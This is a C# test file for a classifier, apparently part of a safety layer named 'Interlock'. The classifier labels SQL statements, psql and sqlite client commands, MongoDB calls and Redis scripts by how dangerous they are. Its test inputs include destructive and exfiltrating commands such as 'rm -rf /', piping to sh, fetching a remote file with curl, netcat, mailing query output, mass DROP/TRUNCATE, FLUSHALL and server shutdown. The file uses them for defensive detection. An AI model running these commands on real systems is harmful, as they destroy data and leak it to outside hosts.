using Interlock.Actions;
using Interlock.Knowledge.Statements;

namespace Interlock.Core.Tests.Knowledge;

/// <summary>Statements inside statements, client commands of SQL shells, and data-store scripts.</summary>
public class NestedStatementTests
{
    private static OperationClass Worst(IReadOnlyList<StatementFinding> findings) =>
        findings.Any(f => f.Critical) ? OperationClass.Destroy
        : findings.Select(f => f.Class).DefaultIfEmpty(OperationClass.Read).MaxBy(Rank);

    private static int Rank(OperationClass c) => c switch
    {
        OperationClass.Read => 0,
        OperationClass.Update or OperationClass.Create => 1,
        OperationClass.Exec => 2,
        OperationClass.Delete => 3,
        _ => 4,
    };

    [Theory]
    [InlineData("WITH d AS (DELETE FROM users RETURNING *) SELECT count(*) FROM d", OperationClass.Destroy)]
    [InlineData("WITH d AS (delete from users where id = 1 returning *) SELECT * FROM d", OperationClass.Delete)]
    [InlineData("WITH u AS (UPDATE t SET x = 1 RETURNING *), v AS (SELECT 1) SELECT * FROM u", OperationClass.Destroy)]
    [InlineData("WITH a AS (WITH b AS (DELETE FROM t RETURNING *) SELECT * FROM b) SELECT * FROM a", OperationClass.Destroy)]
    [InlineData("COPY (DELETE FROM t RETURNING *) TO STDOUT", OperationClass.Destroy)]
    [InlineData("WITH r AS (SELECT * FROM t WHERE x IN (SELECT y FROM u)) SELECT * FROM r", OperationClass.Read)]
    [InlineData("INSERT INTO t (update_at, deleted) VALUES (now(), false)", OperationClass.Update)]
    public void Data_modifying_bodies_count(string sql, OperationClass expected) =>
        Assert.Equal(expected, Worst(SqlStatementAnalyzer.Analyze(sql)));

    [Theory]
    [InlineData("select format('drop table %I cascade', tablename) from pg_tables \\gexec", OperationClass.Destroy)]
    [InlineData("select 'TRUNCATE ' || relname from pg_class;\n\\gexec", OperationClass.Destroy)]
    [InlineData("select 'select 1' \\gexec", OperationClass.Exec)]
    [InlineData("SELECT query_to_xml('DELETE FROM users', true, true, '')", OperationClass.Destroy)]
    [InlineData("SELECT 'DROP TABLE users'", OperationClass.Read)]
    public void Generated_sql_is_analyzed_from_its_literals(string sql, OperationClass expected) =>
        Assert.Equal(expected, Worst(SqlStatementAnalyzer.Analyze(sql)));

    [Theory]
    [InlineData("\\! rm -rf /", "rm -rf /")]
    [InlineData("\\o |sh", "sh")]
    [InlineData("select * from t \\g | mail x@example.com", "mail x@example.com")]
    [InlineData(".read '|curl -s https://x.example.net/q.sql'", "curl -s https://x.example.net/q.sql")]
    [InlineData(".once -x \"|nc host 9\"", "nc host 9")]
    [InlineData(".system id", "id")]
    [InlineData(".sh id", "id")]
    [InlineData("\\copy t to program 'gzip > /tmp/t.gz'", "gzip > /tmp/t.gz")]
    [InlineData("system ls -la", "ls -la")]
    public void Client_commands_that_start_programs_name_them(string sql, string command)
    {
        var f = Assert.Single(SqlStatementAnalyzer.Analyze(sql), x => x.ShellCommand is not null);
        Assert.Equal(command, f.ShellCommand);
        Assert.True(f.ClientSide);
    }

    [Theory]
    [InlineData("\\dt+")]
    [InlineData("\\l")]
    [InlineData("\\x")]
    [InlineData(".tables")]
    [InlineData(".schema users")]
    [InlineData(".tab")]
    [InlineData("select edited_at, readfile_count from edits")]
    public void Describing_commands_read(string sql) => Assert.Equal(OperationClass.Read, Worst(SqlStatementAnalyzer.Analyze(sql)));

    [Theory]
    [InlineData("\\frobnicate")]
    [InlineData(".frobnicate")]
    [InlineData("\\i other.sql")]
    [InlineData(".load ./x")]
    [InlineData("select load_extension('./x')")]
    [InlineData("select edit('x')")]
    [InlineData("select writefile('/tmp/x', 'y')")]
    public void Unknown_or_reaching_commands_do_not_read(string sql) =>
        Assert.NotEqual(OperationClass.Read, Worst(SqlStatementAnalyzer.Analyze(sql)));

    [Theory]
    [InlineData("db.getSiblingDB('admin').shutdownServer()", OperationClass.Destroy)]
    [InlineData("db.adminCommand({shutdown: 1})", OperationClass.Destroy)]
    [InlineData("db['users']['drop']()", OperationClass.Destroy)]
    [InlineData("db.users.find().forEach(function (d) { db.users.remove({_id: d._id}) })", OperationClass.Delete)]
    [InlineData("db.users.aggregate([{$out: 'copy'}])", OperationClass.Update)]
    [InlineData("db.users.frobnicate()", OperationClass.Update)]
    [InlineData("require('child_process').execSync('id')", OperationClass.Exec)]
    [InlineData("db.users.find({status: 'x'}).sort({_id: -1}).limit(3).toArray()", OperationClass.Read)]
    [InlineData("db.runCommand({ping: 1})", OperationClass.Read)]
    public void Mongo_calls_are_classified_by_whitelist(string code, OperationClass expected) =>
        Assert.Equal(expected, Worst(DataStoreCommands.Mongo(code)));

    [Theory]
    [InlineData("return redis.call('FLUSHALL')", OperationClass.Destroy)]
    [InlineData("redis.pcall(\"del\", KEYS[1])", OperationClass.Delete)]
    [InlineData("return redis.call(ARGV[1])", OperationClass.Update)]
    [InlineData("return redis.call('GET', KEYS[1])", OperationClass.Read)]
    public void Redis_scripts_are_classified_by_their_calls(string script, OperationClass expected) =>
        Assert.Equal(expected, Worst([DataStoreCommands.Redis(["EVAL", script, "0"])]));
}
